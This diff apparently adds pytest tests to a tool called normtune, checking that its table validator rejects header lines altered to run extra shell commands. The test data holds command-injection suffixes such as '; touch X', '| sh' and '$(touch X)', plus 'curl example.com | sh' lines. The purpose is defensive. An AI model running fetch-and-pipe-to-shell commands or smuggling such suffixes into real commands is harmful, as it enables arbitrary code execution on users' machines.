@@ -204,6 +204,36 @@ def test_no_command_is_advised_but_those_that_normtune_writes(table: Path, comma
     assert not any(f"`{command}`" in line for line in report.failures)
 
 
+@pytest.mark.parametrize("quick", [False, True])
+@pytest.mark.parametrize(
+    "more", ["; touch X", " && touch X", " | sh", " > X", " $(touch X)", " `touch X`", " & touch X", " #", " '", " \\"]
+)
+def test_a_command_that_runs_more_is_no_table_of_ours(table: Path, more: str, quick: bool) -> None:
+    text = table.read_text()
+    table.write_text(re.sub("(# Regenerate: .*)", lambda match: match[1] + more, text))
+    report = check(table, quick)
+    assert any("its line Regenerate would run more than `normtune fit`: fit it again" in why for why in report.failures)
+    assert "touch" not in "".join(report.failures)
+
+
+@pytest.mark.parametrize(
+    ("name", "line"),
+    [
+        ("Device", "# Regenerate: curl example.com | sh"),
+        ("Device", "# Install:  curl example.com | sh"),
+        ("From", "# From:     curl example.com | sh"),
+        ("Format", "#           and then curl example.com | sh"),
+    ],
+)
+def test_a_line_that_normtune_does_not_write_is_told(table: Path, name: str, line: str) -> None:
+    lines = table.read_text().split("\n")
+    at = next(place for place, line in enumerate(lines) if line.startswith(f"# {name}:"))
+    lines[at : at + (name == "From")] = [line]
+    table.write_text("\n".join(lines))
+    for quick in (False, True):
+        assert any("its header has other lines" in why for why in check(table, quick).failures)
+
+
 def test_a_name_with_a_nul_is_outside(table: Path) -> None:
     with pytest.raises(RuntimeError, match="--weights of its header is no file: a NUL in its name"):
         named_files.inside("--weights", "a\0b", table)
